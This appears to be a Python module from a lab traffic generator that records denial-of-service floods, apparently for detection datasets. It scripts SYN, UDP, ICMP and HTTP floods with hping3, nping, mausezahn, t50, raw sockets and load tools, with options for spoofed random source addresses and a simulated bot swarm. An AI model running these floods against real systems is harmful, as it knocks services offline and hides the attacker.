"""Floods of SYN, UDP, ICMP and HTTP. Some 300 to 3000 packets a second: the shape needs no more, recordings stay small."""

import os
import socket

from attacks import raw
from attacks.way import Way

KINDS = {"syn": ["-S"], "udp": ["--udp"], "icmp": ["--icmp"], "ack": ["-A"], "fin": ["-F"], "rst": ["-R"], "xmas": ["-F", "-P", "-U"]}


def port_of(act, server):
    return server.port[act.rng.choice(["http", "https", "ssh", "dns"])]


def hping(act):
    kind, server = act.pick("kind", ["syn", "syn", "udp", "udp", "icmp", "ack", "fin", "rst", "xmas"]), act.server("dns")
    # One port: with another for each packet (++) it is a scan of that many ports.
    where = [] if kind == "icmp" else ["-p", str(port_of(act, server))]
    forged = act.pick("evasion", [[], [], ["--rand-source"]]) if act.host.role == "attacker" else []
    act.run(["hping3", "-q", "-n", "-i", f"u{act.pick('interval_us', [300, 700, 1500, 3000])}", "-c",
             act.pick("packets", [1500, 3000, 6000]), *KINDS[kind], *where, *act.rng.choice([[], ["-d", "32"], ["-d", "512"]]),
             *forged, *(["-f"] if kind == "udp" and act.rng.random() < 0.1 else []), server.v4])


def nping(act):
    kind, server = act.pick("kind", ["syn", "udp", "icmp"]), act.server("dns")
    words = {"syn": ["--tcp", "--flags", "syn", "-p", port_of(act, server)], "udp": ["--udp", "-p", port_of(act, server)],
             "icmp": ["--icmp"]}[kind]
    act.run(["nping", "-q", "--rate", act.pick("rate", [300, 1000]), "-c", act.pick("packets", [1500, 4000]), "-N", *words,
             "--data-length", act.rng.choice([0, 64, 600]), server.v4])


def mausezahn(act):
    kind, server = act.pick("kind", ["syn", "udp", "icmp"]), act.server("dns")
    what = {"syn": ["-t", "tcp", f"dp={port_of(act, server)},sp=1024-65000,flags=syn"],
            "udp": ["-t", "udp", f"dp={port_of(act, server)},sp=1024-65000"], "icmp": ["-t", "icmp", "ping"]}[kind]
    forged = ["-A", "rand"] if act.pick("evasion", ["", "", "rand-source"]) else ["-A", act.host.v4]
    act.run(["mausezahn", "eth0", "-q", "-c", act.pick("packets", [1500, 4000]), "-d", act.pick("interval", ["300u", "1m", "2m"]),
             "-a", act.host.mac, "-b", server.mac, *forged, "-B", server.v4, *what, "-p", act.rng.choice([0, 64, 600])])


def t50(act):
    server = act.server("dns")
    kind = act.pick("kind", ["TCP", "UDP", "ICMP"])
    more = {"TCP": ["-S", "--dport", port_of(act, server)], "UDP": ["--dport", port_of(act, server)], "ICMP": []}[kind]
    forged = [] if act.pick("evasion", ["", "", "rand-source"]) else ["-s", act.host.v4]
    act.run(["t50", server.v4, "--threshold", act.pick("packets", [2000, 4000]), "--protocol", kind, *more, *forged])


def own_packets(act):
    """One source port or many, any flags, forged or not."""
    rng, server = act.rng, act.server("http")
    flags = act.pick("flags", [2, 2, 2, 2, 2, 16, 1, 0, 41, 18, 20])
    window, options = rng.choice([512, 1024, 5840, 65535, rng.randrange(65536)]), rng.choice(raw.OPTIONS)
    payload = os.urandom(rng.choice([0, 0, 0, 24, 600]))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as out:
        for _ in act.every(act.pick("pace_s", [0.0005, 0.002, 0.01]), 0.3, act.pick("packets", [1500, 3000])):
            out.sendto(raw.segment(act.host.v4, server.v4, (rng.randrange(1024, 65536), server.port["http"]), flags, window,
                                   options if flags == 2 else b"", payload), (server.v4, 0))


def own_one_flow(act):
    """A UDP flood that keeps its ports: one flow with very many packets and no answer."""
    size, port, server = act.pick("bytes", [18, 200, 1200]), act.rng.randrange(1, 60000), act.server()
    with act.udp() as client:
        for _ in act.every(act.pick("pace_s", [0.0005, 0.002]), 0.2, act.pick("packets", [1500, 5000])):
            try:
                client.sendto(b"f" * size, (server.v4, port))
            except ConnectionError:
                pass


def own_distributed(act):
    """Bots: each little, together much."""
    server, size = act.server("http"), act.rng.choice([18, 200, 900])
    act.note(evasion="distributed")
    kind = act.pick("kind", ["udp", "syn", "http"])
    for _ in act.every(act.pick("pace_s", [0.003, 0.01]), 0.3):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM) as client:
            client.settimeout(2)
            try:
                if kind == "udp":
                    client.sendto(b"f" * size, (server.v4, act.rng.randrange(1, 60000)))
                elif kind == "syn":
                    client.setblocking(False)
                    client.connect_ex((server.v4, server.port["http"]))
                else:
                    client.connect((server.v4, server.port["http"]))
                    client.sendall(b"GET /page HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                    client.recv(512)
            except OSError:
                pass


def http(tool):
    def attack(act):
        server = act.server("http")
        tls = act.rng.random() < 0.3
        at = f"{'https' if tls else 'http'}://{server.v4}:{server.port['https' if tls else 'http']}/{act.rng.choice(['page', 'tiny'])}"
        clients, seconds = act.pick("clients", [20, 60, 150]), act.rng.randrange(3, 8)
        act.run({
            "ab": ["ab", "-q", "-r", "-s", "5", "-n", 4000, "-c", clients, *act.rng.choice([[], ["-k"]]), at],
            "wrk": ["wrk", "-t", "1", "-c", clients, "-d", seconds, *act.rng.choice([[], ["-H", "Connection: close"]]), at],
            "h2load": ["h2load", "-n", 4000, "-c", clients, "--h1", at],
            "siege": ["siege", "-q", "-b", "-c", min(clients, 60), "-t", f"{seconds}S", at],
        }[tool], seconds + 3)

    return attack


F, SHORT = "flood", (4, 10)
WAYS = [Way(F, tool, name, act, seconds=SHORT) for tool, name, act in [
    ("hping3", "packets", hping), ("nping", "packets", nping), ("mausezahn", "packets", mausezahn), ("t50", "packets", t50),
    ("ours", "packets", own_packets), ("ours", "one flow", own_one_flow),
    *[(tool, "http", http(tool)) for tool in ("ab", "wrk", "h2load", "siege")]]]
WAYS += [Way(F, "ours", "distributed", own_distributed, by="many", seconds=SHORT),
         Way(F, "hping3", "packets", hping, by="client", seconds=SHORT)]
TOOLS = {"hping3": "hping3", "nping": "nmap", "mausezahn": "netsniff-ng", "t50": "t50", "ab": "apache2-utils", "wrk": "wrk",
         "h2load": "nghttp2-client", "siege": "siege", "ours": "ours"}
